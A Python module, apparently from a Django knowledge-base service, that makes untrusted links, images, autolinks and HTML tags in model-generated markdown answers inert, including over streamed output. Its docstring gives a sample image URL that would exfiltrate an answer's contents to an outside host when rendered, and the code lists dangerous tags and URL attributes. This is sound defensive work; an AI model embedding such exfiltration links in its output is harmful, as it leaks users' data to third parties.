"""The link policy for answers, one for every output: the chat page renders the answer, `/v1`
returns it as markdown to clients that may render it.

An answer comes from a model and quotes documents, so its links are untrusted, and they are
a way out for what the answer holds: an image is fetched as soon as a client renders it
(`![](https://elsewhere.example/?q=<the answer>)`), a link when it is clicked. Links and
images to hosts outside KB_TRUSTED_LINK_HOSTS are made inert: an image becomes its alt
text, a link its text, an autolink a code span, a reference definition is dropped (its
references stay as plain text), a raw HTML tag pointing elsewhere is dropped. Relative links
stay (they point at the reader's own site), and so do bare URLs, which show the reader all
they carry.

`StreamLinkFilter` applies the same policy to a stream, holding back only a construct that
has begun and not yet ended, so that one split across deltas cannot slip through.
"""

import html
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from urllib.parse import urlsplit

_MAX_NESTING = 16  # brackets inside a link's text; deeper ones are dropped, not recursed into
HOLD_LIMIT = 2048  # characters a begun link may hold a stream back; past it, it is escaped
_SAFE_SCHEMES = {"http", "https", "mailto"}
_HOST = re.compile(r"[a-z0-9.-]+(:\d{1,5})?")
_ESCAPED = re.compile(r"\\([!-/:-@\[-`{-~])")  # CommonMark's backslash escapes
_IGNORED_IN_URLS = re.compile(r"[\t\n\r]")  # browsers drop these from URLs
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*|[^\s<>@]+@[^\s<>@]+)>")
_TAG = re.compile(r"</?[A-Za-z!?]")
_ATTRIBUTE = re.compile(r"""([^\s"'<>/=]+)\s*=\s*("[^"]*"|'[^']*'|[^\s"'>]+)""")
_URL_ATTRIBUTES = {
    "href", "src", "srcset", "action", "formaction", "data", "poster", "background",
    "xlink:href", "cite", "longdesc", "ping", "manifest", "codebase", "lowsrc", "dynsrc",
}  # fmt: skip
_CSS_URL = re.compile(r"url\s*\(|@import|url=", re.IGNORECASE)
_ALWAYS_DROPPED_TAGS = re.compile(r"</?(script|style|base|meta|link)\b", re.IGNORECASE)
_DEFINITION = re.compile(r"^ {0,3}\[([^\]\n]*)\]:[ \t]*\n?[ \t]*(\S+)", re.MULTILINE)


@dataclass(frozen=True)
class LinkPolicy:
    """Hosts links and images may point at; each entry also covers its subdomains."""

    trusted_hosts: frozenset[str] = frozenset()

    @classmethod
    def of(cls, hosts: Iterable[str]) -> "LinkPolicy":
        return cls(frozenset(host.lower().removeprefix("*.").strip(".") for host in hosts))

    def allows(self, url: str) -> bool:
        """Whether a destination may stay live, read as a browser would read it."""
        url = _IGNORED_IN_URLS.sub("", _ESCAPED.sub(r"\1", html.unescape(url.strip().strip("<>"))))
        if re.match(r"[/\\]{2}", url):
            return self._trusts(re.split(r"[/\\?#]", url.lstrip("/\\"), maxsplit=1)[0])
        if ":" not in url.split("/", 1)[0]:
            return True  # relative: the reader's own site
        try:
            parts = urlsplit(url)
        except ValueError:  # "Invalid IPv6 URL": brackets in the host
            return False
        scheme = parts.scheme.lower()
        if scheme == "mailto":  # every recipient, including those its query adds
            recipients = parts.path.split(",") + re.findall(r"(?:to|cc|bcc)=([^&]*)", parts.query, re.I)
            return all(self._trusts(address.rpartition("@")[2]) for address in recipients)
        return scheme in _SAFE_SCHEMES and self._trusts(parts.netloc)

    def _trusts(self, netloc: str) -> bool:
        netloc = netloc.lower()
        if not _HOST.fullmatch(netloc):  # userinfo, backslashes, escapes: read differently by browsers
            return False
        host = netloc.split(":")[0]
        return any(host == trusted or host.endswith("." + trusted) for trusted in self.trusted_hosts)

    def apply(self, text: str) -> str:
        """The text with every untrusted link and image made inert."""
        text = _DEFINITION.sub(lambda m: m[0] if self.allows(m[2]) else "", text)
        out: list[str] = []
        at = 0
        for start, end, replacement in self._constructs(text):
            out += [text[at:start], replacement]
            at = end
        out.append(text[at:])
        return "".join(out)

    def _constructs(self, text: str) -> Iterable[tuple[int, int, str]]:
        """(start, end, inert replacement) of each untrusted construct, left to right."""
        i = 0
        while i < len(text):
            if text[i] == "\\":
                i += 2  # an escaped bracket opens nothing
                continue
            found = self._link_at(text, i) if text[i] == "[" else self._angle_at(text, i)
            if found is None:
                i += 1
                continue
            start, end, replacement = found
            if replacement is not None:
                yield start, end, replacement
            i = end

    def _link_at(self, text: str, i: int) -> tuple[int, int, str | None] | None:
        close = _matching(text, i, "[", "]")
        if close is None or text[close + 1 : close + 2] != "(":
            return None
        end = _matching(text, close + 1, "(", ")")
        if end is None:
            return None
        image = i > 0 and text[i - 1] == "!"
        label = text[i + 1 : close]
        label = self.apply(label) if label.count("[") < _MAX_NESTING else re.sub(r"[\[\]]", "", label)
        start = i - image
        destination = (text[close + 2 : end].split() or [""])[0]
        if self.allows(destination):
            return start, end + 1, f"{'!' * image}[{label}]{text[close + 1 : end + 1]}"
        return start, end + 1, label

    def _angle_at(self, text: str, i: int) -> tuple[int, int, str | None] | None:
        if text[i] != "<":
            return None
        if autolink := _AUTOLINK.match(text, i):
            target = autolink[1]
            live = self.allows(target if ":" in target else f"mailto:{target}")
            return i, autolink.end(), None if live else f"`{target.replace('`', '')}`"
        if not _TAG.match(text, i):
            return None
        end = _tag_end(text, i)
        if end is None:
            return None
        return i, end + 1, None if self._tag_allowed(text[i : end + 1]) else ""

    def _tag_allowed(self, tag: str) -> bool:
        if _ALWAYS_DROPPED_TAGS.match(tag):
            return False
        for name, quoted in _ATTRIBUTE.findall(tag):
            value, name = html.unescape(quoted.strip("\"'")), name.lower()
            if name == "style" and _CSS_URL.search(value):
                return False
            urls = (
                [part.split()[0] for part in value.split(",") if part.split()]
                if name == "srcset"
                else [value]
            )
            if name in _URL_ATTRIBUTES and not all(self.allows(url) for url in urls):
                return False
        return True


class StreamLinkFilter:
    """LinkPolicy.apply over a stream: what is released is inert, whatever comes after it."""

    def __init__(self, policy: LinkPolicy) -> None:
        self._policy = policy
        self._pending = ""

    def feed(self, text: str) -> str:
        self._pending += text
        cut = _held_from(self._pending)
        if len(self._pending) - cut > HOLD_LIMIT:  # never closed: its opener can no longer link
            opener = self._pending[cut]
            self._pending = (
                self._pending[:cut] + ("\\[" if opener == "[" else "&lt;") + self._pending[cut + 1 :]
            )
            return self.feed("")
        ready, self._pending = self._pending[:cut], self._pending[cut:]
        return self._policy.apply(ready)

    def flush(self) -> str:
        ready, self._pending = self._pending, ""
        return self._policy.apply(ready)


def _held_from(text: str) -> int:
    """Where the first construct begins that may still turn into a link once more arrives."""
    i = 0
    while i < len(text):
        char = text[i]
        if char == "[" and _link_open(text, i):
            return i - 1 if i and text[i - 1] == "!" else i
        if char == "<" and _angle_open(text, i):
            return i
        i += 2 if char == "\\" else 1
    # A trailing "!" may begin an image, trailing backslashes may escape what comes next.
    end = len(text.rstrip("\\"))
    return end - 1 if end == len(text) and text.endswith("!") else end


def _link_open(text: str, i: int) -> bool:
    close = _matching(text, i, "[", "]")
    if close is None or close == len(text) - 1:
        return True
    after = text[close + 1]
    if after == "(":
        return _matching(text, close + 1, "(", ")") is None
    if after == ":":  # a reference definition: open until its destination has ended
        return re.match(r":[ \t]*\n?[ \t]*\S+\s", text[close + 1 :]) is None
    return False


def _angle_open(text: str, i: int) -> bool:
    rest = text[i + 1 : i + 2]
    if not rest:
        return True
    return bool(re.match(r"[A-Za-z/!?]", rest)) and _tag_end(text, i) is None


def _matching(text: str, i: int, opener: str, closer: str) -> int | None:
    """The index of the closer that balances the opener at i (backslash escapes skipped)."""
    depth, j = 0, i
    while j < len(text):
        char = text[j]
        if char == "\\":
            j += 2
            continue
        depth += (char == opener) - (char == closer)
        if depth == 0:
            return j
        j += 1
    return None


def _tag_end(text: str, i: int) -> int | None:
    """The `>` that ends the tag at i, outside quoted attribute values, as browsers read it."""
    quote = ""
    for j in range(i + 1, len(text)):
        char = text[j]
        if quote:
            quote = "" if char == quote else quote
        elif char in "\"'":
            quote = char
        elif char == ">":
            return j
    return None


def link_policy(hosts: Sequence[str] | None = None) -> LinkPolicy:
    """The policy in force: KB_TRUSTED_LINK_HOSTS unless hosts are given."""
    from django.conf import settings

    return LinkPolicy.of(settings.KB_TRUSTED_LINK_HOSTS if hosts is None else hosts)
